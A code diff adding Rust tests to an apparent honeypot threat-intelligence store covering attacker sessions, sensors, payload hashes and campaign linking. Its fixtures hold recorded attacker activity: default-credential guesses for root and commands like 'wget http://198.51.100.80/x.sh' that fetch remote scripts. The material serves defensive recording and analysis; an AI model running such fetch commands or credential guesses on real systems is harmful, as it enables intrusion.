@@ -7,6 +7,7 @@
 
 use crate::model::*;
 use crate::{NewHpfeedsIdent, NewWebhook, Store, StoreError, Webhook, WebhookProgress, WebhookState};
+use crate::{NewSensor, NewSession, Sensor, SessionQuery, StoredSession};
 use apiary_core::IType;
 use chrono::{DateTime, Duration, Utc};
 use std::collections::HashSet;
@@ -50,6 +51,11 @@ macro_rules! conformance_tests {
             sightings_log_reads_after_a_seq_in_order,
             feed_subscriptions_are_per_user,
             webhooks_keep_their_cursor_and_state,
+            sessions_are_stored_once_and_replaced_by_more_complete_versions,
+            sessions_are_queried_by_attacker_sensor_payload_and_link,
+            sessions_give_the_links_of_campaigns,
+            sensors_are_registered_listed_and_removed,
+            sessions_and_sensors_go_with_their_feed,
             trust_sources_default_and_keep_pinned_tiers,
             trust_scores_are_replaced_and_read_back,
             trust_feedback_and_retractions_are_kept,
@@ -1187,8 +1193,10 @@ pub async fn trust_scores_are_replaced_and_read_back(s: &dyn Store) {
         scored_at: t("2026-01-01T00:00:00Z"),
     };
     assert!(s.get_score("192.0.2.1").await.unwrap().is_none());
+    assert_eq!(s.scores_updated_at().await.unwrap(), None);
     s.put_scores(vec![score("192.0.2.1", 40, ScoreTier::Observe, Some(-0.4)), score("192.0.2.2", 0, ScoreTier::Observe, None)]).await.unwrap();
     s.put_scores(vec![score("192.0.2.1", 97, ScoreTier::Block, Some(3.6))]).await.unwrap();
+    assert_eq!(s.scores_updated_at().await.unwrap(), Some(t("2026-01-01T00:00:00Z")));
     let got = s.get_score("192.0.2.1").await.unwrap().unwrap();
     assert_eq!((got.confidence, got.tier, got.log_odds), (97, ScoreTier::Block, Some(3.6)), "replaced");
     assert_eq!(got.explanation["terms"][0]["term"], "prior");
@@ -1255,6 +1263,7 @@ pub async fn feed_presence_pages_values_with_their_feeds(s: &dyn Store) {
         sighting(&a, &u, IType::Ipv4, "10.0.0.1", "2024-01-04T00:00:00Z"),
     ];
     batch[4].reserved = Some("private".into());
+    batch[3].tags = vec!["login".into()];
     s.append_sightings(batch).await.expect("append");
     assert!(s.feed_presence_after(0, 100).await.expect("empty page past the end")
         .iter().all(|v| !v.feeds.is_empty()));
@@ -1283,6 +1292,7 @@ pub async fn feed_presence_pages_values_with_their_feeds(s: &dyn Store) {
     let in_a = ip.feeds.iter().find(|p| p.feed_id == a.id).expect("a lists it");
     assert_eq!((in_a.firsttime, in_a.lasttime), (t("2024-01-01T00:00:00Z"), t("2024-01-03T00:00:00Z")));
     assert_eq!(by_value("evil.example").feeds.len(), 1);
+    assert_eq!(by_value("evil.example").feeds[0].tags, vec!["login".to_string()]);
     assert_eq!(by_value("10.0.0.1").reserved.as_deref(), Some("private"));
     // One page with everything gives the same.
     let all = s.feed_presence_after(0, 1000).await.expect("one page");
@@ -1303,4 +1313,199 @@ pub async fn feed_comparison_is_replaced_and_read_back(s: &dyn Store) {
     let second = compare(&[], &[], &scorer, 1_700_000_600);
     s.put_feed_comparison(&second).await.expect("replace");
     assert_eq!(s.get_feed_comparison().await.expect("get"), Some(second));
+}
+
+// ---------------------------------------------------------------- sessions and sensors
+
+fn session(sensor: &str, id: &str, attacker: &str, start: &str, events: u64) -> apiary_core::sessions::SessionRecord {
+    use apiary_core::sessions::*;
+    SessionRecord {
+        sensor: sensor.into(),
+        session: id.into(),
+        attacker: Some(attacker.into()),
+        attacker_port: Some(40000),
+        honeypot_ip: Some("10.0.0.5".into()),
+        honeypot_port: Some(2222),
+        protocol: Some("ssh".into()),
+        start: Some(t(start)),
+        end: Some(t(start) + Duration::seconds(30)),
+        duration: Some(30.0),
+        client_version: Some("SSH-2.0-Go".into()),
+        hassh: Some("51cba57125523ce4b9db67714a90bf6e".into()),
+        credentials: vec![
+            SessionCredential { username: Some("root".into()), password: Some("1234".into()), ..Default::default() },
+            SessionCredential { username: Some("root".into()), password: Some("admin".into()), success: true, ..Default::default() },
+        ],
+        login_success: true,
+        commands: vec!["uname -a".into(), "wget http://198.51.100.80/x.sh".into()],
+        downloads: vec![apiary_core::sessions::Transfer {
+            url: Some("http://198.51.100.80/x.sh".into()),
+            sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
+        }],
+        uploads: Vec::new(),
+        tunnels: vec![TunnelTarget { host: "mail.example.net".into(), port: Some(25) }],
+        ttylog_sha256: Some("60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752".into()),
+        depth: "payload".into(),
+        events,
+        closed: true,
+    }
+}
+
+pub async fn sessions_are_stored_once_and_replaced_by_more_complete_versions(s: &dyn Store) {
+    user(s, "alice").await;
+    let f = feed(s, "alice", "pots", Visibility::Public).await;
+    let full = session("pot-1", "abc123", "192.0.2.10", "2024-05-01T10:00:00Z", 12);
+    let new = |r: &apiary_core::sessions::SessionRecord| NewSession { feed_id: f.id, record: r.clone() };
+    let out = s.append_sessions(vec![new(&full)]).await.unwrap();
+    assert_eq!((out.stored, out.replaced, out.duplicates), (1, 0, 0));
+    // The same session again, or a less complete version of it: nothing changes.
+    let mut partial = full.clone();
+    partial.events = 3;
+    partial.commands.clear();
+    let out = s.append_sessions(vec![new(&full), new(&partial)]).await.unwrap();
+    assert_eq!((out.stored, out.replaced, out.duplicates), (0, 0, 2));
+    let q = SessionQuery { attacker: Some("192.0.2.10".into()), limit: 10, ..Default::default() };
+    let got = s.query_sessions(&q).await.unwrap();
+    assert_eq!(got.len(), 1);
+    assert_eq!(got[0].record, full, "every field is kept");
+    assert_eq!(got[0].feed, "alice/pots");
+    // A more complete version replaces it (and its payloads).
+    let mut more = full.clone();
+    more.events = 20;
+    more.downloads[0].sha256 = Some("a".repeat(64));
+    let out = s.append_sessions(vec![new(&more)]).await.unwrap();
+    assert_eq!((out.stored, out.replaced, out.duplicates), (0, 1, 0));
+    let got = s.query_sessions(&q).await.unwrap();
+    assert_eq!(got.len(), 1);
+    assert_eq!(got[0].record, more);
+    let by_old = SessionQuery { payload: Some(full.downloads[0].sha256.clone().unwrap()), limit: 10, ..Default::default() };
+    assert!(s.query_sessions(&by_old).await.unwrap().is_empty(), "the replaced version's payload is gone");
+    // The same session id on another sensor is another session.
+    let other = session("pot-2", "abc123", "192.0.2.10", "2024-05-01T10:00:00Z", 12);
+    assert_eq!(s.append_sessions(vec![new(&other)]).await.unwrap().stored, 1);
+    // A bad sensor name is refused.
+    let mut bad = full.clone();
+    bad.sensor = String::new();
+    assert!(matches!(s.append_sessions(vec![new(&bad)]).await, Err(StoreError::Invalid(_))));
+}
+
+pub async fn sessions_are_queried_by_attacker_sensor_payload_and_link(s: &dyn Store) {
+    use apiary_core::sessions::{Link, LinkKind};
+    user(s, "alice").await;
+    let a = feed(s, "alice", "a", Visibility::Public).await;
+    let b = feed(s, "alice", "b", Visibility::Private).await;
+    let mut later = session("pot-2", "s2", "192.0.2.10", "2024-05-02T10:00:00Z", 5);
+    later.downloads.clear();
+    later.commands = vec!["cd  /tmp".into(), "wget http://203.0.113.9/y.sh".into()];
+    let batch = vec![
+        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
+        NewSession { feed_id: b.id, record: later },
+        NewSession { feed_id: a.id, record: session("pot-1", "s3", "2001:db8::7", "2024-05-03T10:00:00Z", 5) },
+    ];
+    s.append_sessions(batch).await.unwrap();
+    let ids = |v: Vec<StoredSession>| v.into_iter().map(|x| x.record.session).collect::<Vec<_>>();
+    let q = |f: &dyn Fn(&mut SessionQuery)| {
+        let mut q = SessionQuery { limit: 100, ..Default::default() };
+        f(&mut q);
+        q
+    };
+    assert_eq!(ids(s.query_sessions(&q(&|q| q.attacker = Some("192.0.2.10".into()))).await.unwrap()), ["s1", "s2"]);
+    let newest = q(&|q| {
+        q.attacker = Some("192.0.2.10".into());
+        q.newest_first = true;
+    });
+    assert_eq!(ids(s.query_sessions(&newest).await.unwrap()), ["s2", "s1"]);
+    assert_eq!(ids(s.query_sessions(&q(&|q| q.feed_ids = Some(vec![a.id]))).await.unwrap()), ["s1", "s3"]);
+    assert!(s.query_sessions(&q(&|q| q.feed_ids = Some(vec![]))).await.unwrap().is_empty());
+    assert_eq!(ids(s.query_sessions(&q(&|q| q.sensor = Some("pot-2".into()))).await.unwrap()), ["s2"]);
+    let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
+    assert_eq!(ids(s.query_sessions(&q(&|q| q.payload = Some(sha.into()))).await.unwrap()), ["s1", "s3"]);
+    let key = apiary_core::sessions::commands_key(&["uname -a".into(), "wget http://x.example/z".into()]).unwrap();
+    let by_cmds = q(&|q| q.link = Some(Link { kind: LinkKind::Commands, key: key.clone() }));
+    assert_eq!(ids(s.query_sessions(&by_cmds).await.unwrap()), ["s1", "s3"], "normalised: the URL differs");
+    assert_eq!(ids(s.query_sessions(&q(&|q| q.limit = 1)).await.unwrap()).len(), 1);
+}
+
+pub async fn sessions_give_the_links_of_campaigns(s: &dyn Store) {
+    use apiary_core::sessions::{campaigns, LinkKind};
+    user(s, "alice").await;
+    let a = feed(s, "alice", "a", Visibility::Public).await;
+    let b = feed(s, "alice", "b", Visibility::Public).await;
+    let mut lone = session("pot-9", "s9", "198.51.100.99", "2024-05-04T10:00:00Z", 2);
+    lone.downloads.clear();
+    lone.ttylog_sha256 = None;
+    lone.commands.clear();
+    lone.hassh = None;
+    let mut no_links = lone.clone();
+    no_links.session = "s10".into();
+    no_links.credentials.clear();
+    s.append_sessions(vec![
+        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
+        NewSession { feed_id: b.id, record: session("pot-2", "s2", "192.0.2.11", "2024-05-02T10:00:00Z", 5) },
+        NewSession { feed_id: b.id, record: lone },
+        NewSession { feed_id: b.id, record: no_links },
+    ])
+    .await
+    .unwrap();
+    let all = s.session_links(None).await.unwrap();
+    assert_eq!(all.len(), 2, "sessions without any link key are not read: {all:?}");
+    let found = campaigns(&all, 2, &|_| None);
+    let kinds: HashSet<LinkKind> = found.iter().map(|c| c.kind).collect();
+    assert_eq!(kinds.len(), 4, "payload, tty log, commands, HASSH + credentials: {found:?}");
+    for c in &found {
+        assert_eq!(c.attackers, ["192.0.2.10", "192.0.2.11"]);
+        assert_eq!(c.sensors.len(), 2);
+    }
+    assert_eq!(s.session_links(Some(&[a.id])).await.unwrap().len(), 1);
+    assert!(s.session_links(Some(&[])).await.unwrap().is_empty());
+}
+
+pub async fn sensors_are_registered_listed_and_removed(s: &dyn Store) {
+    user(s, "alice").await;
+    let a = feed(s, "alice", "a", Visibility::Public).await;
+    let b = feed(s, "alice", "b", Visibility::Public).await;
+    let new = |feed_id, name: &str, asn, prefix: Option<&str>| NewSensor { feed_id, name: name.into(), asn, prefix: prefix.map(str::to_owned) };
+    let x = s.upsert_sensor(new(a.id, "pot-1", Some(64500), None)).await.unwrap();
+    assert_eq!((x.name.as_str(), x.asn, x.network().as_deref()), ("pot-1", Some(64500), Some("AS64500")));
+    s.upsert_sensor(new(a.id, "pot-2", None, Some("198.51.100.0/24"))).await.unwrap();
+    s.upsert_sensor(new(b.id, "pot-1", None, None)).await.unwrap();
+    // Re-declaring changes the network.
+    let x = s.upsert_sensor(new(a.id, "pot-1", Some(64501), Some("203.0.113.0/24"))).await.unwrap();
+    assert_eq!((x.asn, x.prefix.as_deref()), (Some(64501), Some("203.0.113.0/24")));
+    let names = |v: Vec<Sensor>| v.into_iter().map(|x| (x.feed_id, x.name)).collect::<Vec<_>>();
+    assert_eq!(names(s.list_sensors(Some(&[a.id])).await.unwrap()), [(a.id, "pot-1".into()), (a.id, "pot-2".into())]);
+    assert_eq!(s.list_sensors(None).await.unwrap().len(), 3);
+    assert!(matches!(s.upsert_sensor(new(a.id, "", None, None)).await, Err(StoreError::Invalid(_))));
+    assert!(matches!(s.upsert_sensor(new(a.id + b.id + 100, "x", None, None)).await, Err(StoreError::NotFound(_))));
+    s.delete_sensor(a.id, "pot-2").await.unwrap();
+    assert!(matches!(s.delete_sensor(a.id, "pot-2").await, Err(StoreError::NotFound(_))));
+    assert_eq!(names(s.list_sensors(Some(&[a.id])).await.unwrap()), [(a.id, "pot-1".into())]);
+    // Sensors seen in sessions, registered or not.
+    s.append_sessions(vec![
+        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
+        NewSession { feed_id: a.id, record: session("pot-7", "s2", "192.0.2.10", "2024-05-02T10:00:00Z", 5) },
+        NewSession { feed_id: a.id, record: session("pot-7", "s3", "192.0.2.11", "2024-05-03T10:00:00Z", 5) },
+    ])
+    .await
+    .unwrap();
+    let seen = s.sensors_seen(Some(&[a.id])).await.unwrap();
+    let got: Vec<(String, u64)> = seen.iter().map(|x| (x.name.clone(), x.sessions)).collect();
+    assert_eq!(got, [("pot-1".to_string(), 1), ("pot-7".to_string(), 2)]);
+    assert_eq!(seen[1].first_seen, Some(t("2024-05-02T10:00:00Z")));
+    assert_eq!(seen[1].last_seen, Some(t("2024-05-03T10:00:30Z")));
+}
+
+pub async fn sessions_and_sensors_go_with_their_feed(s: &dyn Store) {
+    user(s, "alice").await;
+    let a = feed(s, "alice", "a", Visibility::Public).await;
+    s.upsert_sensor(NewSensor { feed_id: a.id, name: "pot-1".into(), asn: Some(64500), prefix: None }).await.unwrap();
+    s.append_sessions(vec![NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) }])
+        .await
+        .unwrap();
+    s.delete_feed("alice", "a").await.unwrap();
+    let b = feed(s, "alice", "b", Visibility::Public).await;
+    let q = SessionQuery { attacker: Some("192.0.2.10".into()), limit: 10, ..Default::default() };
+    assert!(s.query_sessions(&q).await.unwrap().is_empty());
+    assert!(s.list_sensors(Some(&[a.id, b.id])).await.unwrap().is_empty());
+    assert!(s.session_links(None).await.unwrap().is_empty());
 }
